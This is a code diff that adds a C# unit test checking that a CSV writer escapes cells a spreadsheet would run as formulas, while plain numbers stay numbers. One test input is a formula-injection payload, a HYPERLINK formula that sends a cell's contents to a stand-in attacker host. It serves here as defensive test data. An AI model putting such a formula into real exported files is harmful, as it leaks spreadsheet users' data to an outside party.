@@ -236,6 +236,23 @@ public sealed class CsvReaderTests
         Assert.That(ReadAll(csv), Is.Empty);
     }
 
+    [Test]
+    public async Task Text_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_numbers_stay_numbers()
+    {
+        var stream = new MemoryStream();
+        await using (var writer = new CsvWriter(stream))
+        {
+            await writer.WriteRowAsync("a", "b", "c", "d", "e", "f", "g");
+            await writer.WriteRowAsync("=HYPERLINK(\"https://attacker.example/?d=\"&B2,\"x\")", "+33 1", "-", "@SUM(A1)", -3, 12.5, "Béthune");
+        }
+
+        using var csv = new CsvReader(new MemoryStream(stream.ToArray()));
+        Assert.That(ReadAll(csv).Single().Fields, Is.EqualTo(new[]
+        {
+            "'=HYPERLINK(\"https://attacker.example/?d=\"&B2,\"x\")", "'+33 1", "'-", "'@SUM(A1)", "-3", "12.5", "Béthune",
+        }));
+    }
+
     private static CsvReader Open(string text) => new(new StringReader(text));
 
     private static List<(long Line, string[] Fields)> ReadAll(CsvReader csv)
